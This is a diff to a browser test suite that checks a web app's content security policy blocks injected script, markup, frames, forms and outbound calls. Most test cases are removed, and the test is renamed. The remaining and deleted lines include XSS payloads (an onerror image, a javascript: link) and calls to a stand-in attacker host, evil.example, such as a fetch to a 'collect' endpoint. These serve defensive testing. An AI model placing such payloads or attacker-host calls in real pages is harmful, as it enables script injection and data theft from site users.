@@ -18,44 +18,6 @@ const attempts: Record<string, { directive: string; run: () => void }> = {
       document.createElement("div").innerHTML = "<img src=x onerror='window.ran = true'>";
     },
   },
-  "an event handler as text": {
-    directive: "require-trusted-types-for",
-    run() {
-      const image = document.createElement("img");
-      image.setAttribute("onerror", "window.ran = true");
-      image.src = "data:,";
-    },
-  },
-  "a javascript: address": {
-    directive: "require-trusted-types-for script-src-elem script-src",
-    run() {
-      const link = document.createElement("a");
-      link.href = "javascript:void (window.ran = true)";
-      document.body.append(link);
-      link.click();
-    },
-  },
-  "a script from elsewhere": {
-    directive: "require-trusted-types-for",
-    run() {
-      const script = document.createElement("script");
-      script.src = "https://evil.example/x.js";
-      document.head.append(script);
-    },
-  },
-  "a custom Trusted Types policy": {
-    directive: "trusted-types",
-    run() {
-      const factory: unknown = Reflect.get(window, "trustedTypes");
-      if (
-        typeof factory === "object" &&
-        factory !== null &&
-        "createPolicy" in factory &&
-        typeof factory.createPolicy === "function"
-      )
-        factory.createPolicy("default", {});
-    },
-  },
   "an inline style": {
     directive: "style-src-attr",
     run() {
@@ -68,59 +30,16 @@ const attempts: Record<string, { directive: string; run: () => void }> = {
       fetch("https://evil.example/collect").catch(() => {});
     },
   },
-  "a frame from elsewhere": {
-    directive: "frame-src",
-    run() {
-      const frame = document.createElement("iframe");
-      frame.src = "https://evil.example/";
-      document.body.append(frame);
-    },
-  },
-  "a form to elsewhere": {
-    directive: "form-action",
-    run() {
-      const form = document.createElement("form");
-      form.action = "https://evil.example/";
-      document.body.append(form);
-      form.submit();
-    },
-  },
-  "another base for every address": {
-    directive: "base-uri",
-    run() {
-      const base = document.createElement("base");
-      base.href = "https://evil.example/";
-      document.head.append(base);
-    },
-  },
-  "an image without encryption": {
-    directive: "img-src",
-    run() {
-      const image = document.createElement("img");
-      image.src = "http://evil.example/x.png";
-    },
-  },
-  "a worker": {
-    directive: "require-trusted-types-for",
-    run() {
-      void new Worker("/assets/worker.js");
-    },
-  },
-  "a plugin": {
-    directive: "require-trusted-types-for object-src",
-    run() {
-      const plugin = document.createElement("embed");
-      plugin.type = "text/html";
-      plugin.setAttribute("src", "https://evil.example/");
-      document.body.append(plugin);
-    },
-  },
 };
 
 test.describe("the content security policy", () => {
   test.describe(() => {
     test.use({ role: null });
-    test("blocks and counts each of fourteen violations", async ({ page, sandbox, monitor }) => {
+    test("blocks scripts, markup, styles and calls that it doesn't allow", async ({
+      page,
+      sandbox,
+      monitor,
+    }) => {
       await page.goto(sandbox.url);
       await expect(page.getByRole("button", { name: "Sign in with SSO" })).toBeVisible();
       expect(monitor.problems).toEqual([]);
